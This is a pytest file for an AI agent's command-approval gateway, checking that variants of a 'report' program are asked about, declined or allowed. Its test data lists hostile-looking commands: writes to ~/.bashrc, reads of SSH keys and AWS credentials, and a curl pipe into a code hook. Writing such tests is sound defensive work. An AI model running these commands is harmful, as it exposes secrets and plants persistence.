"""
A user's own program, allowed by a rule over the option table the config declares for it.

Every row goes through a real `Gateway` built from a config with
``[programs.report]`` and a rule that names ``report``; nothing runs. The
hostile rows try each way the table could be made to let a write, a secret
read or code through; each has a harmless twin that stays allowed.
"""

from __future__ import annotations

import anyio
import pytest

from gateway import ConfigError, Gateway, GatewayConfig, PluginLoadError, ToolCall, load_config

CONFIG = b"""
[gateway]
approvers = ["rules"]

[programs.report]
options = [
  "-v --verbose",
  "-n --limit =",
  { spelling = "-o --output =", effect = "write" },
  { spelling = "-c --config =", effect = "read" },
  { spelling = "--hook =", effect = "code" },
]
operands = { head = ["none"], rest = "read" }

[[approver.rules.rule]]
id = "team.report"
decision = "allow"
programs = ["report"]
reason = "prints a report of the files it is given"
match = ["report -v sales data.csv", "report -c team.toml sales data.csv"]
not-match = ["report --frobnicate sales", "report -c ~/.ssh/id_rsa sales", "report --hook x.py sales"]
"""


def verdicts(config: GatewayConfig, commands: list[str]) -> list[tuple[str, str]]:
    async def run() -> list[tuple[str, str]]:
        async with Gateway(config, sinks={}) as gateway:
            found: list[tuple[str, str]] = []
            for command in commands:
                with anyio.fail_after(30):
                    v = await gateway.review(
                        ToolCall("Bash", {"command": command}, cwd="/work/app")
                    )
                found.append((v.decision, v.reason or ""))
            return found

    return anyio.run(run)


HOSTILE = [
    ("report -o out.txt sales data.csv", "ask"),  # a write: the read-only profile asks
    ("report --output=out.txt sales", "ask"),
    ("report -vo out.txt sales", "ask"),  # the write hidden in a cluster
    ("report -o ~/.bashrc sales", "decline"),
    ("report --output ~/.bashrc sales", "decline"),
    ("report -c ~/.ssh/id_rsa sales", "ask"),  # a secret into the model's context
    ("report sales ~/.aws/credentials", "ask"),
    ("report --hook ./x.py sales", "ask"),  # code the rules cannot read
    ("report --out=x sales", "ask"),  # not an abbreviation the table accepts
    ("report --frobnicate sales", "ask"),  # undeclared
    ("report $OPTS sales", "ask"),  # an expansion could spell `-o ~/.bashrc`
    ("report -v sales $(cat .env)", "ask"),
    ("./report -v sales data.csv", "ask"),  # not the program the rule names
    ("curl -s x | report --hook /dev/stdin sales", "ask"),
]
TWINS = [
    "report sales data.csv",
    "report -v -n 10 sales data.csv",
    "report -c team.toml sales a.csv b.csv",
    "report -- sales -odd.csv",
    "report sales data.csv | head",
]


@pytest.fixture(scope="module")
def config() -> GatewayConfig:
    return load_config(CONFIG)


def test_no_hostile_use_of_the_table_is_allowed(config: GatewayConfig) -> None:
    for (command, expected), (got, reason) in zip(
        HOSTILE, verdicts(config, [c for c, _ in HOSTILE]), strict=True
    ):
        assert got == expected, (command, got, reason)


def test_the_harmless_twins_are_allowed(config: GatewayConfig) -> None:
    for command, (got, reason) in zip(TWINS, verdicts(config, TWINS), strict=True):
        assert got == "allow", (command, reason)
        assert "team.report" in reason, reason


def test_without_the_table_the_program_is_never_allowed() -> None:
    bare = load_config(CONFIG.replace(b"[programs.report]", b"[programs.other]"))
    with pytest.raises(PluginLoadError, match=r"team\.report"):
        verdicts(bare, ["report sales data.csv"])


def test_an_example_the_table_refuses_stops_the_start() -> None:
    broken = load_config(
        CONFIG.replace(b'match = ["report -v sales', b'match = ["report --frobnicate sales')
    )
    with pytest.raises(PluginLoadError, match="report --frobnicate"):
        verdicts(broken, ["true"])


EXAMPLES = b"""
examples = [
  { command = "report -v sales data.csv", decision = "allow" },
  { command = "report -o out.txt sales", decision = "ask" },
  { command = "report -o out.txt sales", decision = "allow", profile = "workspace-write" },
  { command = "report -o ~/.bashrc sales", decision = "refuse", profile = "workspace-write" },
]
"""


def _with_examples(examples: bytes) -> bytes:
    return CONFIG.replace(
        b'operands = { head = ["none"], rest = "read" }\n',
        b'operands = { head = ["none"], rest = "read" }\n' + examples,
    )


def test_a_table_whose_examples_hold_starts() -> None:
    config = load_config(_with_examples(EXAMPLES))
    assert len(config.programs["report"].examples) == 4
    assert verdicts(config, ["report -v sales data.csv"])[0][0] == "allow"


@pytest.mark.parametrize(
    ("example", "says"),
    [
        (
            b'{ command = "report -o ~/.bashrc sales", decision = "allow" }',
            "The program table 'report' in the gateway config says allow for its example "
            "`report -o ~/.bashrc sales` under the read-only profile, but the policy decides "
            "decline: Declined `report -o ~/.bashrc sales`: rule write.persistence",
        ),
        (
            b'{ command = "cat data.csv", decision = "allow" }',
            "its example `cat data.csv` under the read-only profile, but it does not run `report`.",
        ),
        (
            b'{ command = "report sales", decision = "allow", profile = "yolo" }',
            "but the profile 'yolo' is not defined.",
        ),
    ],
)
def test_a_table_example_that_does_not_hold_stops_the_start_with_one_sentence(
    example: bytes, says: str
) -> None:
    broken = load_config(_with_examples(b"examples = [" + example + b"]\n"))
    with pytest.raises(PluginLoadError) as raised:
        verdicts(broken, ["true"])
    message = str(raised.value)
    assert says in message, message
    assert message.count("\n") == 0, message


@pytest.mark.parametrize(
    ("example", "says"),
    [
        (b'{ command = "report x", decision = "maybe" }', "Invalid enum value 'maybe'"),
        (b'{ command = "", decision = "allow" }', "an example's command is empty"),
        (b'{ command = "report x", decision = "allow", why = "x" }', "unknown field `why`"),
        (b'"report x"', "Expected `object`, got `str`"),
    ],
)
def test_a_malformed_table_example_stops_the_load_with_one_sentence(
    example: bytes, says: str
) -> None:
    with pytest.raises(ConfigError) as raised:
        load_config(_with_examples(b"examples = [" + example + b"]\n"))
    message = str(raised.value)
    assert says in message, message
    assert message.count("\n") == 0, message
